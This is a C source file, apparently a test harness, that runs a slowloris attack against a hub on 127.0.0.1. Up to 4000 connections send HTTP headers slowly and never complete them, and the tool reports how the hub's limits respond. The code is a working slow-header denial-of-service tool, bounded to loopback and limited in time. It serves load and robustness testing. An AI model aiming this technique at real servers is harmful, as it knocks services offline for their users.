/*
 * slowloris.c: the attack of issue 7, item 3, against a hub on 127.0.0.1 only (bounded in count
 * and time): CONNS connections that each send a request's headers one line every INTERVAL_MS
 * milliseconds and never finish them, reopened as soon as the hub closes them, for SECONDS.
 *
 *   slowloris PORT CONNS SECONDS INTERVAL_MS
 *
 * Prints what happened: connections opened and closed by the hub (which is what the hub's limits
 * do to it). Exits 0, or 2 on bad arguments.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define CONNS_MAX 4000
#define SECONDS_MAX 120

static long arg(const char *s, long lo, long hi)
{
    char *end;
    errno = 0;
    long v = strtol(s, &end, 10);
    if (errno || *end || v < lo || v > hi) {
        fprintf(stderr, "slowloris: %s: out of range %ld..%ld\n", s, lo, hi);
        exit(2);
    }
    return v;
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* A non-blocking connection to 127.0.0.1:PORT (never any other address), or -1. */
static int dial(int port)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0) return -1;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(fd, (struct sockaddr *)&a, sizeof a) != 0 && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    return fd;
}

int main(int argc, char **argv)
{
    if (argc != 5) {
        fprintf(stderr, "usage: slowloris PORT CONNS SECONDS INTERVAL_MS\n");
        return 2;
    }
    int port = (int)arg(argv[1], 1, 65535);
    int n = (int)arg(argv[2], 1, CONNS_MAX);
    double secs = (double)arg(argv[3], 1, SECONDS_MAX);
    double interval = (double)arg(argv[4], 10, 60000) / 1000.0;
    int *fd = calloc((size_t)n, sizeof *fd);
    int *sent = calloc((size_t)n, sizeof *sent);
    double *next = calloc((size_t)n, sizeof *next);
    struct pollfd *pf = calloc((size_t)n, sizeof *pf);
    if (!fd || !sent || !next || !pf) return 1;
    long opened = 0, closed_by_hub = 0, failed = 0;
    double t0 = now(), end = t0 + secs;
    for (int i = 0; i < n; i++)
        fd[i] = -1;
    while (now() < end) {
        double t = now();
        for (int i = 0; i < n; i++) {
            if (fd[i] < 0) {
                fd[i] = dial(port);
                if (fd[i] < 0) {
                    failed++;
                    continue;
                }
                opened++;
                sent[i] = 0;
                next[i] = t;
            }
            if (t >= next[i]) {
                /* The request line, then one header line per interval, never the empty line. */
                char line[64];
                int len = sent[i] == 0 ? snprintf(line, sizeof line, "GET /v1/health HTTP/1.1\r\n")
                                       : snprintf(line, sizeof line, "X-Slow-%d: a\r\n", sent[i]);
                if (send(fd[i], line, (size_t)len, MSG_NOSIGNAL) < 0 && errno != EAGAIN &&
                    errno != ENOTCONN) {
                    close(fd[i]);
                    fd[i] = -1;
                    closed_by_hub++;
                    continue;
                }
                sent[i]++;
                next[i] = t + interval;
            }
        }
        for (int i = 0; i < n; i++) {
            pf[i].fd = fd[i];
            pf[i].events = POLLIN;
            pf[i].revents = 0;
        }
        poll(pf, (nfds_t)n, 50);
        for (int i = 0; i < n; i++) {
            if (fd[i] < 0 || !(pf[i].revents & (POLLIN | POLLHUP | POLLERR))) continue;
            char buf[512];
            ssize_t got = recv(fd[i], buf, sizeof buf, 0);
            if (got <= 0 && !(got < 0 && errno == EAGAIN)) {
                close(fd[i]);
                fd[i] = -1;
                closed_by_hub++;
            }
        }
    }
    int still = 0;
    for (int i = 0; i < n; i++) {
        if (fd[i] >= 0) {
            still++;
            close(fd[i]);
        }
    }
    printf("slowloris: %ld connections opened, %ld closed by the hub, %d still open at the end, "
           "%ld failed to connect, in %.1f s\n",
           opened, closed_by_hub, still, failed, now() - t0);
    free(fd);
    free(sent);
    free(next);
    free(pf);
    return 0;
}
